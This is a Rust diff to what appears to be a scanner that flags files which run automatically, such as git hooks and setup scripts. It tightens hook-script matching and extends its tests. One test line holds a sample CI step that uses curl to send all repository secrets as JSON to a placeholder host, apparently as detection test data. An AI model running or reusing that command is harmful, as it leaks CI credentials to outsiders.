@@ -52,8 +52,15 @@ pub(crate) fn runs_later(path: &str) -> Option<Runs> {
             Runs::JsonCommands
         }
         ".envrc" => Runs::Shell,
-        _ if in_dir(".husky") && !in_dir(".husky/_") => Runs::Shell,
-        _ if in_dir(".githooks") || in_dir("git-hooks") || in_dir(".git-hooks") => Runs::Shell,
+        // Hook scripts: no extension, or a shell one (not a README).
+        _ if (in_dir(".husky") && !in_dir(".husky/_")
+            || in_dir(".githooks")
+            || in_dir("git-hooks")
+            || in_dir(".git-hooks"))
+            && (!lower.contains('.') || lower.ends_with(".sh") || lower.ends_with(".bash")) =>
+        {
+            Runs::Shell
+        }
         "setup.py" | "conftest.py" | "noxfile.py" | "sitecustomize.py" | "usercustomize.py" | "dodo.py" => Runs::Python,
         _ => return None,
     })
@@ -278,7 +285,9 @@ mod tests {
             let runs = runs_later(path).unwrap_or_else(|| panic!("{path} runs later"));
             assert_eq!(commands(runs, text), *expected, "{path}");
         }
-        for path in ["/w/src/main.rs", "/w/README.md", "/w/.husky/_/husky.sh", "/w/docs/Makefile.md"] {
+        for path in
+            ["/w/src/main.rs", "/w/README.md", "/w/.husky/_/husky.sh", "/w/docs/Makefile.md", "/w/.githooks/README.md"]
+        {
             assert_eq!(runs_later(path), None, "{path}");
         }
         let step = ci_expressions("curl -d '${{ toJSON(secrets) }}' https://x/${{ github.sha }}");
